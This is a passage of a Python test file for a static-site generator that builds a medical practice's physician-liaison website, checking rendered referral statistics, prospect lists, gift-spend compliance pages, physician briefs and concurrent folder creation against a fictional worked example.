    # 2026-08-29 (age 89) … 2026-11-26, hers: interactions_90d 8
    assert re.findall(r"(\d{4}-\d{2}-\d{2}) · \w+", _iso_days(recent)) == [
        "2026-11-26", "2026-11-23", "2026-11-19", "2026-11-06", "2026-10-27", "2026-10-12",
        "2026-09-26", "2026-08-29"]
    assert "2026-08-28" not in recent and "2026-12-01" not in recent
    assert "2026-11-12" not in recent  # Owen Price's call
    assert "2026-02-10" in _section(lena, "Trainings") and "92" in _section(lena, "Trainings")

    # --------------------------------------------------------------- index.html: dashboard
    dash = _page_text(out, "index.html")
    # physician referrals of the last 90 days (2026-08-29 … 11-26): the physicians'
    # referrals_90d, grace-holloway 3 + marcus-bell 1 + ruth-kessler 3 = 7; of the 90 before:
    # referrals_prev_90d, alan-cho 4 + grace-holloway 2 + marcus-bell 4 + nina-vargas 1 = 11;
    # 7 / 11 − 1 = −36%
    assert "Physician referrals, 90 days 7 −36% · 7 vs 11 · 90 d" in dash
    # the other new patients: totals.referrals_90d 16 − 7 = 9 against referrals_prev_90d
    # 16 − 11 = 5: +80%
    assert "Other new patients, 90 days 9 +80% · 9 vs 5 · 90 d" in dash
    # totals.physician_referrals_365d 22 against physician_referrals_prev_365d 6: +267%
    assert "Physician referrals, 365 days 22 +267% · 22 vs 6 · 365 d" in dash
    # referrals_365d 40 − 22 = 18 against referrals_prev_365d 10 − 6 = 4: under 5, no per cent
    assert "Other new patients, 365 days 18 18 vs 4 · 365 d" in dash and "+350%" not in dash
    assert "Referrals, 90 days 16" not in dash  # the two are not added up in the headline
    # source_capture_rate_365d 0.8889: 16 of the 18 other new patients asked (2 unknown)
    assert "Source captured, 365 days 88.9% 16 of 18 other new patients asked" in dash
    assert "In-person visits, 90 days 5" in dash
    assert "Open follow-ups 4 3 overdue" in dash
    assert "Physicians 6 3 practices" in dash
    # the chart: physician referrals only; in-person visits: the sum of months[].in_person
    assert "total 28, highest 5 in 2026-06, latest 4 in 2026-11 (month to date)" in dash
    assert _physician_referrals_per_month(dash) == {m: n for m, n in every_month.items() if n}
    assert "In-person visits: total 13" in dash
    assert sum(m["in_person"] for m in expected_stats["months"]) == 13
    assert "1 declining referrer" in dash and "1 lapsed referrer" in dash
    assert "1 new referrer" in dash and "2 physicians overdue for a visit" in dash
    assert "3 overdue follow-ups" in dash
    assert "Marcus Bell — Mountain View Family Medicine active declining · 1 vs 4 · 90 d" \
        in dash
    assert "Alan Cho — French Broad Podiatry lapsed" in dash
    assert "Ruth Kessler — French Broad Podiatry new" in dash
    # the four open follow-ups, the earliest due first (the 2026-12-01 lunch's is after D)
    # this week's and the recently overdue, the earliest due first; the 40-day-old one is in
    # the backlog, which the dashboard counts and links to
    due = _iso_days(_section(dash, "Follow-ups due within 7 days or recently overdue (3)"))
    order = [due.index(t) for t in ("Email the scheduling line card",
                                     "Send the ultrasound criteria card",
                                     "Drop off the holiday schedule")]
    assert order == sorted(order)
    assert "Ask the lab about report turnaround" not in due
    assert "Older backlog: 1 follow-up overdue by 30 days or more" in due
    assert "2026-11-19 7 days overdue" in due
    assert "2026-11-25 1 day overdue" in due and "2026-11-26 today" in due
    for done_or_later in ("Order lunch for six", "Confirm a lunch date",
                          "Send wound clinic referral pads", "Send the duplex ordering guide"):
        assert done_or_later not in dash

    # ----------------------------------------------------- physicians/: the directory
    directory = _page_text(out, "physicians/index.html")
    assert "6 referring physicians" in directory
    # status, tier, referrals_365d against referrals_prev_365d, last_visit, effective liaison
    for row in (r"Alan Cho ?, DPM Podiatry French Broad Podiatry Asheville — lapsed "  # no tier: "—"
                r"4 4 vs 3 · 365 d 2026-08-28 Lena Brooks",
                r"Grace Holloway ?, MD Family Medicine Mountain View Family Medicine Asheville "
                r"A active 7 7 vs 1 · 365 d 2026-10-27 Lena Brooks",
                r"James Whitley ?, DO Obstetrics & Gynecology Hendersonville Women's Health "
                r"Hendersonville B prospect visit overdue 0 0 vs 0 · 365 d — —",
                r"Marcus Bell ?, NP Family Medicine Mountain View Family Medicine Asheville B "
                r"active declining · 1 vs 4 · 90 d visit overdue 5 5 vs 1 · 365 d 2026-09-26 "
                r"Lena Brooks",
                r"Nina Vargas ?, MD Obstetrics & Gynecology Hendersonville Women's Health "
                r"Hendersonville C active 3 3 vs 1 · 365 d 2026-10-12 Lena Brooks",
                r"Ruth Kessler ?, DPM Podiatry French Broad Podiatry Asheville A new "
                r"3 3 vs 0 · 365 d 2026-11-06 Lena Brooks"):
        assert re.search(row, directory), row

    # -------------------------------------------------- referrals/: referral statistics
    ref_html = (out / "referrals/index.html").read_text(encoding="utf-8")
    ref = Page(ref_html).text
    assert "Physician referrals, 90 days 7 −36% · 7 vs 11 · 90 d" in ref
    assert "Other new patients, 90 days 9 +80% · 9 vs 5 · 90 d" in ref
    # 22 of referrals_365d 40
    assert "Physician referrals, 365 days 22 +267% · 22 vs 6 · 365 d 55.0% of new patients" in ref
    assert "Other new patients, 365 days 18 18 vs 4 · 365 d" in ref
    # sources_365d unknown 2 of the 18 that are not physician referrals
    assert "Source captured, 365 days 88.9% source unknown for 2 of 18 other new patients" in ref
    assert "Treated, matured referrals 48.3% 14 of 29" in ref  # funnel_matured
    assert "Return on visit 12 ±0 · 12 vs 12 · 90 d" in ref and "7 matured visits" in ref
    # funnel_365d declined 4; declined_reasons_365d unspecified 1
    assert "Declined, 365 days 4 1 with no reason given" in ref
    assert _physician_referrals_per_month(ref) == {m: n for m, n in every_month.items() if n}
    # totals.referrals 50 − 28; 2026-11: months referrals 7 − 4
    assert "Other new patients: total 22, latest 3." in ref
    assert "Referred 40; Scheduled 27 (68%); Consulted 23 (58%); Treated 11 (28%); " \
           "Declined 4 (10%)." in ref  # funnel_365d
    assert "Referred 29; Scheduled 25 (86%); Consulted 24 (83%); Treated 14 (48%); " \
           "Declined 4 (14%)." in ref  # funnel_matured
    assert "Insurance 1 (25%); No response 1 (25%); Not a candidate 1 (25%); Other 0 (0%); " \
           "Patient's choice 0 (0%); No reason given 1 (25%). Total 4." in ref
    # sources_365d without physician, the largest first (ties in the order of the key)
    assert "Web 8 (44%); Advertising 3 (17%); Patient 2 (11%); Unknown (not asked) 2 (11%); " \
           "Event 1 (6%); Insurance 1 (6%); Other 1 (6%). Total 18." in ref
    assert "Vein ablation 18 (45%); Sclerotherapy 11 (28%); Leg wound clinic 6 (15%); " \
           "Vascular ultrasound 5 (13%). Total 40." in ref  # services_365d
    # capture_by_member_365d; 18 − 6 − 1 = 11 name nobody as taken_by
    assert "Owen Price front desk 6 1 83.3%" in ref and "Lena Brooks liaison 1 0 100.0%" in ref
    assert "Whole practice: 88.9% of 18 other new patients; 11 of them name nobody" in ref
    # return on visit by physician (physicians.*.rov_365d), ranked by after − before:
    # grace-holloway +1 first, marcus-bell −1 last; james-whitley has no visit
    by_physician = _section(ref, "By physician, ranked by after − before", "Top referrers")
    rows = {name: tuple(int(x) for x in m.groups()) for name in (
        "Grace Holloway", "Nina Vargas", "Alan Cho", "Ruth Kessler", "Marcus Bell")
        if (m := re.search(rf"(\d+) {name} [^\d]*(\d+) (\d+) (\d+) \d+ vs \d+ · 90 d",
                           by_physician))}
    assert {n: r[1:] for n, r in rows.items()} == {
        "Grace Holloway": (2, 2, 3), "Nina Vargas": (3, 3, 3), "Alan Cho": (2, 4, 4),
        "Ruth Kessler": (1, 0, 0), "Marcus Bell": (1, 3, 2)}
    assert rows["Grace Holloway"][0] == 1 and rows["Marcus Bell"][0] == 5
    assert "James Whitley" not in by_physician
    assert "Lena Brooks 7 12 12" in ref  # liaisons.lena-brooks.rov_365d
    assert "New referrers (1) Ruth Kessler" in ref and "Lapsed referrers (1) Alan Cho" in ref
    assert "Declining referrers (1) Marcus Bell" in ref
    # the month table, newest first: physician referrals, other new patients, then the
    # months entry of expected-stats (referrals, scheduled, consulted, treated, declined,
    # interactions, in_person)
    table = re.findall(r"<tr(?: class=\"unfinished\")?><td[^>]*><span class=\"date\">([A-Z][a-z]+ "
                       r"\d{4})</span>(?: <span[^>]*>[^<]*</span>)?</td>((?:<td class=\"num[^\"]*\"[^>]*>"
                       r"\d+</td>)+)</tr>", ref_html)
    got = [(m, [int(n) for n in re.findall(r">(\d+)<", cells)]) for m, cells in table]
    want = [(month(m["month"]), [every_month[m["month"]], m["referrals"] - every_month[m["month"]],
                          m["referrals"], m["scheduled"], m["consulted"], m["treated"],
                          m["declined"], m["interactions"], m["in_person"]])
            for m in reversed(expected_stats["months"])]
    assert got == want
    assert "November 2026 is unfinished: counted to Thu 26 Nov, 26 of 30 days." in ref


def test_prospects_and_compliance_pages_show_the_facts_of_the_example(golden_build):
    """prospects/ and compliance/ of the worked example at 2026-11-26, from its data files,
    site.yaml (compliance.annual_limit 100) and expected-stats-2026-11-26.json."""
    out = golden_build

    pros = _page_text(out, "prospects/index.html")
    # james-whitley: no referral of age ≥ 0 (status prospect); alan-cho: lapsed
    assert "1 physician who never referred to us, and 1 lapsed referrer to win back" in pros
    never = _section(pros, "Never referred (1)", "Win back")
    # potential high, tier B, never contacted (last_contact null; the 2026-11-19 visit does
    # not list him), visit overdue, refers_elsewhere, practice without a liaison
    assert re.search(r"1 James Whitley ?, DO high B never visit overdue Asheville Vascular "
                     r"Associates Obstetrics & Gynecology Hendersonville Women's Health none",
                     never)
    back = _section(pros, "Win back: lapsed referrers (1)")
    # potential low, no tier, last_referral 2026-07-29 (days_since_referral 120), referrals 7,
    # last_contact 2026-08-28 (age 90), no refers_elsewhere, the practice's liaison
    assert re.search(r"1 Alan Cho ?, DPM low — 2026-07-29 120 days ago 7 2026-08-28 90 days ago "
                     r"not recorded French Broad Podiatry Lena Brooks", back)
    for name in ("Grace Holloway", "Marcus Bell", "Nina Vargas", "Ruth Kessler"):
        assert name not in pros  # active or new referrers

    comp = _page_text(out, "compliance/index.html")
    assert "against the annual limit of $100.00 per physician" in comp
    # totals.spend_ytd_cents 27551: 2026's costs 85.01 + 40.50 + 120 + 30; not 2025's 25 nor
    # the 90 of the 2026-12-01 lunch
    assert "Given in 2026 $275.51" in comp
    # 2025's 25 is said once, as the year before's total (off the page since 1 January)
    assert "2025: $25.00 given in 1 interaction with a cost, off this page" in comp
    rest = comp.replace("2025: $25.00 given", "")
    assert "$25.00" not in rest and "$90.00" not in rest
    # spend_ytd_cents: ruth-kessler 12000 (120%), nina-vargas 7050, grace-holloway 4251,
    # marcus-bell 4250; alan-cho and james-whitley 0
    assert "At 80% or more 1 of 4 physicians given anything" in comp
    assert "Over the limit 1 physician in 2026" in comp
    per = _section(comp, "Per physician, 2026", "Per practice, 2026")
    order = [per.index(n) for n in ("Ruth Kessler", "Nina Vargas", "Grace Holloway",
                                    "Marcus Bell")]
    assert order == sorted(order), "over or near the limit first, then by what was given"
    assert re.search(r"Ruth Kessler ?, DPM over the limit French Broad Podiatry · liaison Lena "
                     r"Brooks \$120\.00 of \$100\.00 · 120% · \$20\.00 over", per)
    assert "2026-11-06 · lunch · $120.00" in per
    # the 40.50 event and the 30 e-mail, both hers alone
    assert "$70.50 of $100.00 · 70% · $29.50 left 2 interactions with a cost" in per
    # the 2026-08-23 lunch, 8501 cents for two: the odd cent to grace-holloway, listed first
    assert "$42.51 of $100.00 · 42% · $57.49 left" in per
    assert "$42.51 (their share of $85.01, shared by 2)" in per
    assert "$42.50 of $100.00 · 42% · $57.50 left" in per
    assert "$42.50 (their share of $85.01, shared by 2)" in per
    assert "2 physicians were given nothing this year" in per
    assert "Alan Cho" not in per and "James Whitley" not in per
    # practices.*.spend_ytd_cents: french-broad-podiatry 16050 (the event names it, with
    # nina-vargas listed, and the 120 lunch), mountain-view 8501, hendersonville 3000 (the
    # e-mail names no practice: its physician's)
    practices = _section(comp, "Per practice, 2026", "How it is counted")
    assert "French Broad Podiatry $160.50 2 1" in practices
    assert "Mountain View Family Medicine $85.01 1 0" in practices
    assert "Hendersonville Women's Health $30.00 1 0" in practices


def test_briefs_show_spend_and_return_on_visit(golden_build):
    """Spend against compliance.annual_limit and return on visit in physician briefs, from the
    worked example's data and expected-stats-2026-11-26.json (physicians.*.spend_ytd_cents and
    rov_365d)."""
    out = golden_build

    nina = _page_text(out, "physicians/nina-vargas/index.html")
    # rov_365d {visits 3, before 3, after 3}: her matured in-person interactions (age 90 to
    # 454, 2025-08-29 … 2026-08-28), newest first, with her physician referrals in the 90
    # days before (v − 90 … v − 1) and from (v … v + 89):
    #   2026-07-29: 2026-05-10 before, 2026-07-30 after
    #   2026-01-30: 2025-11-26 and 11-27 before, none after
    #   2025-11-26: none before, 2025-11-26 and 11-27 after
    rov = _section(nina, "Return on visit", "What happened to their patients")
    assert "3 visits 3 before 3 after" in rov
    assert re.findall(r"(\d{4}-\d{2}-\d{2}) (\w+) Lena Brooks (\d+) (\d+)", rov) == [
        ("2026-07-29", "visit", "1", "1"), ("2026-01-30", "presentation", "2", "0"),
        ("2025-11-26", "visit", "0", "2")]
    assert "2026-10-12" not in rov  # 45 days old: its 90 days after are not over
    # spend_ytd_cents 7050: the 2026-10-12 event (40.50) and the 2026-11-23 e-mail (30), both
    # hers alone; 70.5% of the limit of 100, shown rounded down
    spend = _section(nina, "Spend 2026", "Profile")
    assert "$70.50 of the $100.00 annual limit (70%)" in spend and "$29.50 left" in spend
    assert "2026-11-23 email" in spend and "$30.00" in spend
    assert "2026-10-12 event" in spend and "$40.50" in spend
    assert "2025-11-26" not in spend

    ruth = _page_text(out, "physicians/ruth-kessler/index.html")
    # spend_ytd_cents 12000: the 2026-11-06 lunch; the 90 of the 2026-12-01 lunch is after D
    spend = _section(ruth, "Spend 2026", "Profile")
    assert "$120.00 of the $100.00 annual limit (120%) over the limit by $20.00" in spend
    assert "$90.00" not in ruth and "2026-12-01" not in ruth

    alan = _page_text(out, "physicians/alan-cho/index.html")
    # rov_365d {visits 2, before 4, after 4}: the 2026-08-28 visit at age exactly 90 (his
    # 06-10, 06-20, 07-01 and 07-29 before, nothing after) and the 2026-05-10 visit to his
    # office, which lists nobody, so everyone there (the same four after, nothing before);
    # his 2024-12-26 visit is 700 days old
    rov = _section(alan, "Return on visit", "What happened to their patients")
    assert "2 visits 4 before 4 after" in rov
    assert re.findall(r"(\d{4}-\d{2}-\d{2}) (\w+(?: · to the office)?) Lena Brooks (\d+) (\d+)",
                      rov) == [("2026-08-28", "visit", "4", "0"),
                               ("2026-05-10", "visit · to the office", "0", "4")]
    # spend_ytd_cents 0
    assert "$0.00 of the $100.00 annual limit (0%)" in _section(alan, "Spend 2026", "Profile")


def test_a_folder_another_process_of_the_build_made_meanwhile_is_taken(tmp_path, monkeypatch):
    """The build's processes make the folders of their pages side by side. Where two pages
    of one new folder are in two processes, both can find its parent missing: the one that
    makes the folder second finds it there (it failed the build with 'File exists', found
    by random edits on a small site rendered on two processes). Likewise a file where the
    folder goes, left by a site of another shape, that the other process replaced first."""
    from liaison import render

    root = str(tmp_path)
    real_mkdir, real_unlink = os.mkdir, os.unlink

    def other_process_first(path, *args, **kwargs):  # the parent made: so is the folder
        real_mkdir(path, *args, **kwargs)
        if path == f"{root}/presentations":
            real_mkdir(f"{root}/presentations/working-with-us")

    monkeypatch.setattr(os, "mkdir", other_process_first)
    render._make_folder(root, "presentations/working-with-us")
    render._make_folder(root, "presentations/working-with-us/p-00001")
    assert (tmp_path / "presentations" / "working-with-us" / "p-00001").is_dir()

    (tmp_path / "physicians").mkdir()
    (tmp_path / "physicians" / "d-1").write_text("a file of another site's shape")

    def removed_and_made_by_the_other(path, *args, **kwargs):
        real_unlink(path, *args, **kwargs)
        real_mkdir(path)

    monkeypatch.setattr(os, "mkdir", real_mkdir)
    monkeypatch.setattr(os, "unlink", removed_and_made_by_the_other)
    render._make_folder(root, "physicians/d-1")
    assert (tmp_path / "physicians" / "d-1").is_dir()

    (tmp_path / "physicians" / "d-2").write_text("a file")
    monkeypatch.setattr(os, "unlink", real_unlink)
    render._make_folder(root, "physicians/d-2")  # (alone: the file removed, the folder made)
    assert (tmp_path / "physicians" / "d-2").is_dir()
    (tmp_path / "physicians" / "d-3").write_text("a file")

    def the_other_put_a_file_back(path, *args, **kwargs):
        real_unlink(path, *args, **kwargs)
        (tmp_path / "physicians" / "d-3").write_text("not a folder")

    monkeypatch.setattr(os, "unlink", the_other_put_a_file_back)
    with pytest.raises(FileExistsError):  # not a folder there: never taken for one
        render._make_folder(root, "physicians/d-3")
